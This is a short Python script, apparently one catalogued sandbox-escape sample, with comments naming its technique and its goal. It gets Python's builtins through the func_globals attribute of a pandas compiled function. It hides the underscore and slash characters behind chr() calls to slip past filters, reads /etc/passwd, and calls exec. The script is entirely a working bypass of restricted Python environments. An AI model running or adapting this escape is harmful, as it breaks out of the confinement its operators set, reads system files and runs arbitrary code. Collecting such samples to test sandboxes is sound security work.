# source: Cython's cyfunction type (Cython/Utility/CythonFunction.c) keeps the Python 2 names func_globals/func_code/func_closure as non-dunder aliases of __globals__ etc.; pyjail "get __builtins__ from a function's globals" (HackTricks bypass-python-sandboxes)
# family: Cython function objects of pandas' compiled modules expose their module globals by a public attribute (func_globals), whose __builtins__ is the builtins module
# goal: reads /etc/passwd with builtins.open and runs exec("import this")
import pandas as pd

u = chr(95) * 2
g = pd.Timestamp.astimezone.func_globals
b = g[u + "builtins" + u]
p = chr(47) + "etc" + chr(47) + "passwd"
print(b.open(p).read()[:120])
b.exec("import this")
